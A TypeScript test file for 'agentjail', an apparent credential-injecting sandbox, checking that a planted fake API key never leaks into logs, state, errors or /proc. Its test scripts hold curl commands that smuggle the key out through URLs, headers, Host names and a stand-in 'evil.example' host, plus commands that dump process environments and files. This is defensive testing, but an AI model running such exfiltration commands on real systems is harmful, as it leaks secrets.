/**
 * A key planted in a policy, and a command that puts it wherever a text could carry it out: none of agentjail's logs,
 * states, errors, notices, arguments or environments has it. Judge: grep over the files, and the kernel's /proc.
 */
import t, { type Test } from 'tap'
import { createLab, type Lab } from '../lab/lab.js'
import { agentjailPath, root } from '../lab/paths.js'
import { gates } from './faults-kit.js'

const key = 'sk-proj-Planted0123456789AbCdEfGh'
const policyPath = '/etc/agentjail/policies/secrets.yaml'
const cwd = '/srv/work'
const env = { PLANTED: key }

const policy = (mode: string) => `version: 1
name: secrets
network:
  allow:
    - host: api.openai.com
      inspect: http
      credential: planted
      rules: [{ method: GET, path: /v1/models }]
    - plain.example
credentials:
  planted: { from: "env:PLANTED", mode: ${mode}, in: "header:authorization", env: OPENAI_API_KEY }
`

/** With the key in its environment: as a name, a path, a query, a method, a header, a Host, a server name, encoded. */
const misuse = String.raw`
exec >/dev/null 2>&1
k=$OPENAI_API_KEY; get="curl -sk --max-time 5"
b64=$(printf %s "u:$k" | base64 -w0); long=$(printf '%0100d' 0)
$get "https://api.openai.com/v1/$k"
$get "https://api.openai.com/v1/models?key=$k"
$get -H "Authorization: Bearer $k" "https://api.openai.com/v1/$k/$k"
$get -H "Authorization: Bearer $k" -X "$k" https://api.openai.com/v1/models
$get -H "Authorization: Bearer $k" -H "X-Api-Key: $k" https://api.openai.com/v1/models
$get -H "Host: $k.example" https://api.openai.com/v1/models
$get -H "Host: $long.$k.example" https://api.openai.com/v1/models
$get -H "Host: $(printf %080d 0).$k" https://api.openai.com/v1/models
$get "https://$k.evil.example/" "https://$k.plain.example/"
$get --connect-to "$k.evil.example:443:plain.example:443" "https://$k.evil.example/"
$get "http://plain.example/$k" -H "Host: $k.example"
$get "https://api.openai.com/v1/$b64" "https://$(printf %s "$k" | od -An -tx1 | tr -d ' \n').example/"
$get -H "Authorization: Basic $b64" https://plain.example/
`

/** Where a copy of any form is; the forms are in a file, so that no argument has them. */
async function copies(lab: Lab, where: readonly string[]): Promise<string> {
  const bytes = Buffer.from(key)
  const forms = [
    key,
    bytes.toString('hex'),
    bytes.toString('base64').slice(0, 40),
    key.slice(0, 16),
  ]
  lab.writeFile('/root/forms', `${forms.join('\n')}\n`, 0o600)
  const found = await lab.run(['grep', '-raliF', '-f', '/root/forms', ...where])
  // This very file names it, and may lie below /tmp.
  const files = found.stdout.split('\n').filter((path) => path !== '' && !path.startsWith(root))
  return files.join('\n')
}

const places = [
  '/var/log',
  '/run/agentjail',
  '/var/lib/agentjail',
  '/etc/agentjail',
  '/tmp',
  '/var/tmp',
]

const misused = async (t: Test, lab: Lab) => {
  lab.writeFile(policyPath, policy('pin'))
  const jail = lab.spawn(
    [
      ...['sh', '-c', 'ulimit -c unlimited; exec "$@"', 'sh', process.execPath, agentjailPath],
      ...['run', '--show-denials', '--policy', policyPath, '--'],
      ...['bash', '-c', `${misuse}\nexec sleep 60`, key],
    ],
    { cwd, env, timeout: 120_000 },
  )
  await jail.until(/method|path-not|blocked|denied/i, 60_000)
  // Whatever is in the jail has the key rightly here.
  const others = lab.processes().filter(({ uid }) => uid !== 1000 && uid < 1_900_000_000)
  t.ok(gates(lab).length > 0 && others.length > 2, 'there is something to look at')
  for (const { pid, uid, command } of others) {
    const ofProcess = (file: string) => {
      try {
        return lab.readFile(`/proc/${pid}/${file}`)
      } catch {
        return '' // It has ended.
      }
    }
    if (/agentjail/.test(command)) {
      t.match(
        ofProcess('limits'),
        /^$|Max core file size +[01] +[01] /,
        `no core of ${command.slice(0, 30)}`,
      )
    }
    // The warden and its caller were given it in theirs, which only root can read.
    if (uid !== 0)
      t.notMatch(ofProcess('environ') + ofProcess('cmdline'), key, command.slice(0, 30))
  }
  const second = await lab.agentjail(['run', '--policy', policyPath, '--', 'true'], {
    cwd,
    env,
    user: 'alice',
  })
  t.match(second, { code: 125, stderr: /running already/ })
  t.notMatch(second.stderr, /sk-proj-Planted/i, 'who holds the name is told without it')
  const status = await lab.agentjail(['status', '--json'])
  t.match(status.stdout, /"secrets"/)
  t.notMatch(status.stdout, /sk-proj-Planted/i, 'status')
  t.equal(await copies(lab, places), '', 'state and logs while it runs')
  jail.kill('SIGTERM')
  const { stdout, stderr } = await jail.ended
  t.match(stderr, /\[planted\]/i, 'notices and summary name it by its id')
  t.notMatch(stdout + stderr, /sk-proj-Planted/i)
  t.equal(await copies(lab, places), '', 'and after')
  const logs = await lab.agentjail(['logs', 'secrets', '--json'])
  for (const reason of [
    'path-not-granted',
    'credential-extra',
    'host-mismatch',
    'name-not-granted',
  ]) {
    t.match(logs.stdout, reason, `the log has what was tried: ${reason}`)
  }
}

const plans = async (t: Test, lab: Lab) => {
  const run = (...args: string[]) => lab.agentjail(['run', '-p', policyPath, ...args], { cwd, env })
  const plan = await run('--dry-run', '--json', '--', 'echo', key)
  t.equal(plan.code, 0, plan.stderr)
  t.match(plan.stdout, '[planted]')
  t.notMatch(plan.stdout + plan.stderr, key)
}

const injected = async (t: Test, lab: Lab) => {
  lab.writeFile(policyPath, policy('inject'))
  const look = String.raw`
curl -s --max-time 10 https://api.openai.com/v1/models -o /dev/null -w '%{http_code}\n'
env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\0' '\n'
find / -xdev -type f -size -200k -newer /etc/hostname 2>/dev/null | xargs -r cat 2>/dev/null`
  const { code, stdout, stderr } = await lab.agentjail(
    ['run', '-q', '-p', policyPath, '--', 'bash', '-c', look],
    { cwd, env, user: 'alice', timeout: 60_000 },
  )
  t.equal(code, 0, stderr)
  t.match(stdout, /^200$/m, 'the key that left was right')
  t.match(stdout, /^OPENAI_API_KEY=sk-proj-/m, 'a placeholder of its shape')
  t.notMatch(stdout, key, 'nothing in the jail has the key')
}

const asCaller = async (t: Test, lab: Lab) => {
  lab.writeFile('/home/alice/key', `${key}\n`, 0o600)
  await lab.run(['chown', '1000:1000', '/home/alice/key'])
  lab.writeFile('/root/key', 'sk-of-root-0123456789\n', 0o600)
  const source = `exec: ['sh', '-c', 'test $(id -u) = 1000 && cat ~/key']`
  lab.writeFile(policyPath, policy('inject').replace('"env:PLANTED"', `{ ${source} }`))
  const { code, stdout, stderr } = await lab.agentjail(
    ['run', '-q', '-p', policyPath, '--', 'printenv', 'OPENAI_API_KEY'],
    { cwd, user: 'alice' },
  )
  t.equal(code, 0, stderr)
  t.match(stdout.trim(), /^sk-proj-.{24,}$/, "alice's key file was read, through ~")
}

/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 300_000
t.setTimeout(2 * timeout)
t.test('a planted key', { timeout }, async (t) => {
  const lab = await createLab()
  t.teardown(() => lab.close())
  lab.writeFile('/srv/work/README', 'a workspace\n')
  lab.writeFile(policyPath, policy('pin'))
  await t.test('misused in every text', { timeout }, (t) => misused(t, lab))
  await t.test('the plan', { timeout }, (t) => plans(t, lab))
  await t.test('injected', { timeout }, (t) => injected(t, lab))
  await t.test('a program that prints it runs as the caller', { timeout }, (t) => asCaller(t, lab))
})
